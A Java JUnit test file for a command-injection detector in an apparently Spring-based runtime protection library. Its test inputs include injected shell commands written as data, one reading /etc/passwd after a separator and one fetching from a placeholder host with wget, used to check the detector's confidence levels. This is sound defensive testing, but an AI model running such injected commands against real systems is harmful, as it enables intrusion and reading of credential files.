package io.github.raspspring.attack.command;

import io.github.raspspring.attack.DetectorContract;
import io.github.raspspring.engine.Confidence;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

class CommandInjectionDetectorTests extends DetectorContract {

	CommandInjectionDetectorTests() {
		super(new CommandInjectionDetector());
	}

	@Test
	void detectWhenSeparatorIsFollowedBySensitiveFileThenIsCertain() {
		assertThat(findings("x;/bin/cat /etc/passwd; ls -la")).singleElement().satisfies((finding) -> {
			assertThat(finding.rule()).isEqualTo(CommandInjectionDetector.SEPARATED_COMMAND);
			assertThat(finding.confidence()).isEqualTo(Confidence.CERTAIN);
		});
	}

	@Test
	void detectWhenProseSurroundsAttackThenStillReports() {
		String prose = "We met and had a good time; the cat was there & who cares? ".repeat(300);
		assertThat(findings(prose + "; wget http://a.example/x " + prose)).singleElement()
			.matches((finding) -> finding.confidence() != Confidence.WEAK);
	}

	@Test
	void detectWhenCommandIsNameInListThenIsWeak() {
		assertThat(findings("name;id")).allMatch((finding) -> finding.confidence() == Confidence.WEAK);
	}

}
